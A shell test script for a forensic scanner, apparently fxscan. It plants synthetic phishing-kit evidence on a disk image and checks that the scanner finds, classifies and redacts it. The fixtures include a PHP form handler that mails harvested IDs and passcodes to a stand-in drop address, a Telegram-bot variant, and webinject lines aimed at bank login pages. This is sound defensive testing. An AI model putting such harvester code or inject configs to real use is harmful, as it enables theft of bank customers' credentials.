#!/bin/sh
# kits.t - what phishing kits and trojans left on a disk: mailed, packed, in
# UTF-16, deleted; whom they hit is told, and no secret but in the stream.
# shellcheck source=tests/tap.sh
. "$(dirname "$0")/../tap.sh"
# shellcheck source=tests/case.sh
. "$(dirname "$0")/../case.sh"
PATH=$PATH:/usr/sbin:/sbin
cd "$tmp" || exit 99

# result USER PASSWORD ADDRESS
result() {
	printf '|-------| X |-------|\nOnline ID : %s\nPasscode  : %s\n' "$1" "$2"
	printf 'ATM PIN   : 9%s\n|------ I P -------|\n' 753
	printf '|Client IP: %s\nUser Agent : Mozilla/5.0 (X11)\n' "$3"
	printf '|------ by Y ------|\n'
}
token=123456789:AAE-fxkit-test-0123456789_abcdefghi
mkdir files
{
	{
		result victim1 hidden-1a 198.51.100.1
		result victim2 hidden-2b 198.51.100.2
	} >files/result.txt
	result victim3 hidden-3c 198.51.100.3 | iconv -t UTF-16LE >files/wide.txt
	result victim4 hidden-4d 198.51.100.4 >files/gone.txt
	{
		printf 'From www-data@host.example Sun Nov 22 10:00:00 2026\n'
		printf 'To: drop@mail.example\nSubject: LOG\nX-PHP-Script: a.php\n'
		printf 'Content-Transfer-Encoding: quoted-printable\n\n'
		result victim5 hidden-5e 198.51.100.5 | sed 's/-/=2D/g'
	} >files/inbox.mbox
	cat >files/post.php <<-'PHP'
		<?php
		$ip = getenv("REMOTE_ADDR");
		$m .= "Online ID : ".$_POST['id']."\n";
		$m .= "Passcode  : ".$_POST['pw']."\n";
		$send = "drop@mail.example";
		mail($send, "LOG $ip", $m);
	PHP
	sed "/drop@/d; s/^mail.*/\$t='$token'; \$chat_id='-100123456789';/" \
		files/post.php >files/bot.php
	{
		printf 'set_url https://online.bank.es/*/login.jsp* GP\n'
		printf 'data_before\n<form>\ndata_end\ndata_inject\n<b>\ndata_end\n'
		printf 'set_url *.sparbank.se/* GL\ndata_before\n</b>\ndata_end\n'
	} >files/webinjects.txt
	printf '<slist><sinj><mm>https://*.bank.co.uk/*</mm></sinj></slist>' |
		iconv -t UTF-16LE >files/memory.bin
	(cd files && zip -q kit.zip result.txt post.php webinjects.txt) &&
		truncate -s 4M disk.raw && mkfs.fat disk.raw &&
		mcopy -i disk.raw files/kit.zip files/wide.txt files/inbox.mbox \
			files/bot.php files/memory.bin files/gone.txt :: &&
		mdel -i disk.raw ::gone.txt
} >log 2>&1
tap_say $? "a disk with a kit" || tell log
"$BIN/fxscan" disk.raw >found.jsonl 2>err
is $? 0 "is scanned"

# one FILTER WORDS: jq's FILTER takes one finding of the kit.
one() {
	is "$(jq -c "select(.type == \"finding\" and ($1))" found.jsonl | wc -l)" \
		1 "$2"
}
one '.value == "victim1" and .attrs.password == "hidden-1a" and
	.attrs.ip == "198.51.100.1" and (.path | test("ZIP"))' "a result, packed"
one '.value == "victim2" and .attrs.codes == "atm pin=9753" and
	.attrs.ip == "198.51.100.2" and (.path | test("ZIP"))' "and the next one"
one '.value == "victim3" and .encoding == "utf16le"' "in UTF-16"
one '.value == "victim4" and .file.state == "deleted"' "in a deleted file"
one '.value == "victim5" and .attrs.password == "hidden-5e" and
	(.path | test("QP"))' "in a mail box"
one '.value == "drop@mail.example" and .attrs.form == "php" and
	.attrs.labels == "user,password"' "who gets it by mail"
one '.value == "bot123456789" and .attrs.recipient == "-100123456789"' \
	"and by Telegram"
one '.value == "https://online.bank.es/*/login.jsp*" and
	.attrs.country == "ES" and .attrs.action == "inject"' "a bank attacked"
one '.value == "*.sparbank.se/*" and .attrs.host == "sparbank.se" and
	.attrs.action == "grab"' "another"
one '.value == "https://*.bank.co.uk/*" and .attrs.country == "GB" and
	.encoding == "utf16le"' "a third, as in memory"
is "$(jq -r 'select(.kind != null) | .kind' found.jsonl |
	grep -c '^config[.]')" 11 "and no other, but the mail as it lies"

"$BIN/fxscan" --table disk.raw >table 2>err
grep -cE 'hidden-|victim|9753|AAE-fxkit|drop@' table >count
is "$(cat count)" 0 "the table shows no secret, no victim, no one's address"
grep -q 'https://online.bank.es' table && grep -q 'd\*.*@mail.example' table
tap_say $? "but the bank and where the mail goes" || tell table
run 0 "a key" "$BIN/fxkey" new lab
run 0 "a case" "$BIN/fxrecord" --init --case 1 --agency lab.example \
	--examiner x --key lab.key case.evd
run 0 "they are recorded" sh -c "'$BIN/fxrecord' --key lab.key case.evd <found.jsonl"
strings -n 5 case.evd | grep -E 'hidden-|victim[1-5]|=9753|AAE-fxkit|drop@' >leaks
is_empty leaks "no secret stands in the case file"
run 0 "and found again" "$BIN/fxverify" --image disk.raw --key lab.pub \
	--vault case.vault --identity lab.agekey --expect case.evd.ckpt case.evd
case_ok case.evd lab.pub
finish
